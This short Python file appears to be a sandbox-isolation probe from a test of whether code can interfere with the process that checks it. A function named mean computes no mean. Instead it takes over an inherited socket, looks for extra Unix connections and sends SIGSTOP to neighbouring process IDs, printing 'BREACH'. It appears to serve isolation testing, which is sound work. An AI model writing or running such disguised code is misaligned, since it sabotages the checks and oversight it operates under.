"""Look for the process that waits for the next check, and for its errand, to do that check's work."""

import os
import socket
import stat
import struct
import threading
import time

import msgpack


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


peer = socket.socket(fileno=os.dup(next(filter(is_socket, range(3, 64)))))


def send(message):
    body = msgpack.packb(message)
    peer.sendall(struct.pack(">I", len(body)) + body)


def mean(x):
    found = 0
    for number in range(256):
        try:
            found += socket.socket(fileno=os.dup(number)).family == socket.AF_UNIX
        except OSError:
            continue
    if found > 2:  # its own, and its own copy of that
        print("BREACH: more connections than its own")
    for pid in range(os.getpid() - 3, os.getpid() + 4):
        try:
            if pid != os.getpid():
                os.kill(pid, 19)
                print("BREACH: stopped", pid)
        except OSError:
            pass
    return 0.0
